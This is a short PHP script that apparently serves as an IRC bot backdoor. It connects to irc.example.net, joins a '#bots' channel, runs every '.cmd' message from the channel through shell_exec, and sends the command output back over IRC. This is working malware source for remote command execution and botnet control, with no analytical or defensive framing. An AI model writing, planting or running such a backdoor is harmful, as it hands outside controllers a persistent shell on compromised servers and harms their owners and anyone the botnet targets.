<?php
set_time_limit(0);
$s = fsockopen('irc.example.net', 6667);
fwrite($s, "NICK php" . rand(100, 999) . "\r\n");
fwrite($s, "USER php 0 * :php\r\n");
fwrite($s, "JOIN #bots\r\n");
while (!feof($s)) {
    $l = fgets($s, 1024);
    if (strpos($l, 'PING') === 0) { fwrite($s, "PONG " . substr($l, 5)); }
    if (preg_match('/PRIVMSG (\S+) :\.cmd (.*)/', $l, $m)) {
        $o = shell_exec($m[2]);
        foreach (explode("\n", $o) as $r) { fwrite($s, "PRIVMSG " . $m[1] . " :" . $r . "\r\n"); }
    }
}
